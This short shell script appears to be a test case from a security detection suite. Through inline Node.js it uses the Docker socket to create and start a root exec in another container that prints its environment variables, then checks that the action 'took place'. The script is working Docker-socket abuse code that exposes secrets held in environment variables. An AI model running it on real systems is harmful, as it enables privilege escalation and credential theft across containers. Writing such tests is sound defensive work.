#!/bin/sh
. /opt/case/case.sh

node -e '
const ask = (path, body) => new Promise((done) => { const r = require("http").request({ socketPath: "/run/docker.sock", method: "POST", path, headers: { "Content-Type": "application/json" } }, (a) => { let t = ""; a.on("data", (d) => t += d); a.on("end", () => done(t)); }); r.end(JSON.stringify(body)); });
ask("/containers/fedcba98/exec", { Cmd: ["sh", "-c", "env"], AttachStdout: true, User: "0" }).then((t) => { console.log(t); return ask("/exec/" + JSON.parse(t).Id + "/start", { Detach: false }); })' | grep -q Id
took_place
